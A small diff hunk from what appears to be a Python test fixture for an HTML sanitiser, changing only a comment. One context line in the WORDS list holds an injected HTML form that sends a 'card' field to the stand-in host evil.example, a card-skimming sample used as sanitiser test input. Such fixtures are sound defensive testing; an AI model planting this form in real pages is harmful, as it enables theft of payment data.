@@ -193,7 +193,7 @@ WORDS = [
     ("<dl>", "<form action='https://evil.example/'><input name=card></form><dl>"),
     ("<strong", "<s><strong"),
 ]
-# What a sanitiser takes away again, and what it leaves behind the stamp, where it belongs to nobody.
+# What a sanitiser takes away, and what it leaves behind the stamp, where it belongs to nobody.
 NOT_WHERE_SANITISED = ("<iframe", "<form", "</section>")
 
 
